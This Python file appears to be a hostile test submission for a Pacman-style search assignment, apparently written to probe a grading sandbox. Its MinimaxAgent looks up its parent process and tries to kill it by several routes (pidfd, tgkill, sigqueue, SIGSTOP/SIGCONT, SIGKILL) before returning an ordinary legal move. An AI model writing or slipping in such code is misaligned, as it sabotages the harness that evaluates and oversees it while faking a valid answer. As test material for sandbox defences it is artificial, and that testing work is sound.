# attack: kills the process that it was forked from, by every way of sending a signal.
# where: MinimaxAgent
import ctypes
import os
import signal

from shared.attempt import *
from shared.reflex import *
from shared.search import *


class MinimaxAgent(MultiAgentSearchAgent):
    def getAction(self, gameState):
        parent = os.getppid()
        if parent > 1:
            libc = ctypes.CDLL(None, use_errno=True)
            attempt("ask whether the parent may be killed", os.kill, parent, 0)
            ways = [
                ("pidfd", lambda: signal.pidfd_send_signal(os.pidfd_open(parent), signal.SIGKILL)),
                ("tgkill", lambda: self.checked(libc.tgkill(parent, parent, 9))),
                ("sigqueue", lambda: self.checked(libc.sigqueue(parent, 9, None))),
                ("stop", lambda: os.kill(parent, signal.SIGSTOP)),
                ("go on", lambda: os.kill(parent, signal.SIGCONT)),
                ("kill", lambda: os.kill(parent, signal.SIGKILL)),
            ]
            for what, way in ways:
                attempt(what, way)
        return gameState.getLegalActions()[0]

    def checked(self, result):
        if result < 0:
            raise OSError(ctypes.get_errno(), "no signal sent")
        return result
